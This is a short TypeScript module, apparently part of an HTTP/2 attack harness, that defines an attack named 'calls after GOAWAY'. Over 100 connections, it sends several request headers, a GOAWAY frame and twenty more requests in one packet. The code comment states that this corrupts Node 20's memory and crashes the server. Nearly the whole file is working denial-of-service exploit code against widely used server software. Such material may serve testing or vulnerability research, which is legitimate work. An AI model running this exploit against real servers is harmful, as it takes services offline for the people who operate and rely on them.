import { type Attack, callHeaders } from "./attack.js";
import { frame, TYPE } from "./frames.js";

const GOAWAY = frame(TYPE.goaway, 0, 0, Buffer.alloc(8));
const AT_ONCE = 20;

/**
 * A goodbye and more calls in one packet. Node refuses such calls in the middle of its reading, which corrupts its
 * memory: a bare server of Node 20 ends within a hundred such connections.
 */
export const askingOn: Attack = {
  name: "calls after GOAWAY",
  connections: 100,
  async run(connection) {
    await connection.begin();
    const calls = Array.from({ length: AT_ONCE }, (_, i) => callHeaders(7 + 2 * i, true));
    const first = [callHeaders(1, true), callHeaders(3, true), callHeaders(5, true)];
    await connection.write(Buffer.concat([...first, GOAWAY, ...calls]), 24);
    await connection.waitForEnd();
  },
};
